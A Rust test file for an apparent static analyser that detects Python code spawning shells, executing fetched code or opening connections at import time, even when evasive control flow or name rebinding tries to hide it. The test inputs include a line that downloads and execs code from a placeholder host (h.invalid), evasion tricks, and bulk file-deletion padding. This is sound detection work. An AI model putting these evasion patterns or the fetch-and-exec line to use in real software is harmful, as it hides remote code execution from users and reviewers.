//! Tests of code that runs although conditions, loops or names seem to say otherwise.

use spip_core::Deed;

use super::{does, read};

/// Whether all of them run `os.system` at import.
fn all_run(sources: &[&str]) {
    for source in sources {
        let source = format!("import os, sys\n{source}");
        assert!(does(&source, Deed::Spawn, "os.system"), "{source}");
    }
}

#[test]
fn goes_on_behind_blocks_that_may_end_anywhere() {
    all_run(&[
        "def f():\n    try:\n        int('x')\n        return 1\n    except ValueError:\n        pass\n    os.system('id')\nf()",
        "def f():\n    for i in [1, 2]:\n        try:\n            int('x')\n            break\n        except ValueError: pass\n        os.system('id')\nf()",
        "import contextlib\ndef f():\n    with contextlib.suppress(ValueError):\n        int('x')\n        return 1\n    os.system('id')\nf()",
        "i = 0\nwhile i < 3: i += 1\nelse:\n    os.system('id')",
        "def f(x=None):\n    while x is None:\n        x = 1\n    else:\n        os.system('id')\nf()",
    ]);
}

#[test]
fn drops_nothing_for_a_condition_that_counts_as_known() {
    all_run(&[
        "for i in (1,):\n    go = True\n    try:\n        int('x')\n        go = False\n    except ValueError: pass\n    if go:\n        os.system('id')",
        "def f(n):\n    go = False\n    def g():\n        nonlocal go\n        go = True\n    g()\n    if go: os.system('id')\nf(1)",
        "def f(n):\n    d = [1]\n    del d[0]\n    if not d: os.system('id')\nf(1)",
        "import heapq\ndef f(n):\n    l = []\n    heapq.heappush(l, 1)\n    for i in l: os.system('id')\nf(1)",
        "import heapq\nl = []\nheapq.heappush(l, 1)\nwhile l:\n    l.pop()\n    os.system('id')",
        "def f(n):\n    l = [0]\n    list.__setitem__(l, 0, 1)\n    return 1 if not l[0] else os.system('id')\nf(1)",
        "def f(n):\n    l = [0]\n    list.__setitem__(l, 0, 1)\n    l[0] and os.system('id')\nf(1)",
        "import heapq\nl = []\nheapq.heappush(l, 1)\n[os.system('id') for i in l]",
        "import heapq\nl = []\nheapq.heappush(l, 1)\nlist(map(lambda x: os.system('id'), l))",
        "def f(n):\n    if 'a'.center(3) == ' a ': os.system('id')\nf(1)",
        "def f(n):\n    if n == 2: return\n    elif n: os.system('id')\nf(2)",
    ]);
}

#[test]
fn drops_nothing_where_a_bound_is_reached() {
    all_run(&[
        "def f(n):\n    i = 0\n    while i < 6000: i += 1\n    if i == 6000: os.system('id')\nf(1)",
        "i = 0\nwhile i < 200000: i += 1\nwhile i == 200000:\n    i += 1\n    os.system('id')",
        "def f(n):\n    i = 0\n    while i < n: i += 1\n    if i < 9000: return\n    os.system('id')\nf(9000)",
        "c = []\ndef f(n):\n    c.append(n)\n    if len(c) == 2100: os.system('id')\nfor i in range(2100): f(i)",
    ]);
    let worker = std::thread::Builder::new().stack_size(512 << 20);
    let deep = || {
        all_run(&["def f(n):\n    if n: return f(n - 1)\n    os.system('id')\nf(400)"]);
    };
    worker.spawn(deep).unwrap().join().unwrap();
}

#[test]
fn a_fallback_hides_no_name() {
    all_run(&[
        "try:\n    import os\nexcept ImportError:\n    import zzz as os\nos.system('id')",
        "try:\n    from os import system\nexcept ImportError:\n    from zzz import system\nsystem('id')",
        "try:\n    from os import system\nexcept ImportError:\n    def system(x): pass\nsystem('id')",
        "if sys.version_info < (3,):\n    class os: pass\nos.system('id')",
        "import contextlib\nwith contextlib.suppress(ImportError):\n    import zzz as os\nos.system('id')",
        "class A:\n    if sys.maxsize < 9:\n        def go(self): pass\n    else:\n        def go(self): self.on()\n    def on(self): os.system('id')\nA().go()",
    ]);
    for hidden in [
        "if os.getenv('ZZ'):\n    exec = print",
        "if os.getenv('ZZ'):\n    def exec(x): pass",
        "for exec in sys.argv[9:]: pass",
        "try:\n    1/0\n    exec = print\nexcept Exception: pass",
        "def f():\n    global exec\n    exec = print\ntry:\n    1/0\n    f()\nexcept Exception: pass",
        "def exec(x): pass\ndel exec",
        "try:\n    1/0\nexcept ZeroDivisionError as exec: pass",
        "match 1:\n    case [exec]: pass\n    case _: pass",
        "0 and (exec := print)",
    ] {
        let source = format!(
            "import os, sys, requests\n{hidden}\nexec(requests.get('https://h.invalid/p').text)"
        );
        assert!(does(&source, Deed::Execute, "builtins.exec"), "{source}");
    }
}

#[test]
fn what_is_rebound_for_sure_is_what_it_is() {
    let source = "def exec(x): pass\nexec('import os')";

    assert!(read(source).acts.is_empty());
}

#[test]
fn many_small_acts_hide_no_grave_one() {
    let mut source = "import os\n".to_owned();
    for file in 0..5100 {
        source += &format!("os.remove('a{file}')\n");
    }
    source += "os.system('id')\n";

    assert!(does(&source, Deed::Spawn, "os.system"));
    assert!(read(&source).unread.is_empty());
    source += &"os.system('id')\n".repeat(5100);
    assert_eq!(read(&source).unread.len(), 1);
}

#[test]
fn what_only_a_program_does_runs_at_no_import() {
    for guard in [
        "__name__ == '__main__'",
        "sys.platform != 'win32' and __name__ == '__main__'",
    ] {
        let source = format!("import os, sys\nif {guard}:\n    os.system('id')\n");
        assert!(!does(&source, Deed::Spawn, "os.system"), "{guard}");
    }
    all_run(&[
        "if sys.argv or __name__ == '__main__':\n    os.system('id')",
        "if __name__ != '__main__' and sys.argv:\n    os.system('id')",
        "if __name__ == 'demo':\n    os.system('id')",
        "if __name__ and __name__ != 'q':\n    os.system('id')",
    ]);
}

#[test]
fn a_connection_goes_to_somebody() {
    for source in [
        "import db\ndb.engine().connect()",
        "import db\ndef on(x): pass\ndb.pre_save.connect(on, sender=db.Site)",
    ] {
        let module = read(source);
        let mut acts = module.acts.iter();
        assert!(
            !acts.any(|known| known.act.deed == Deed::Connect),
            "{source}"
        );
    }
    for peer in ["'h.invalid'", "db.peer()", "host=db.peer()", "(h, 80)"] {
        let source = format!("import db\ndb.engine().connect({peer})");
        assert!(
            does(&source, Deed::Connect, "db.engine().connect"),
            "{peer}"
        );
    }
}
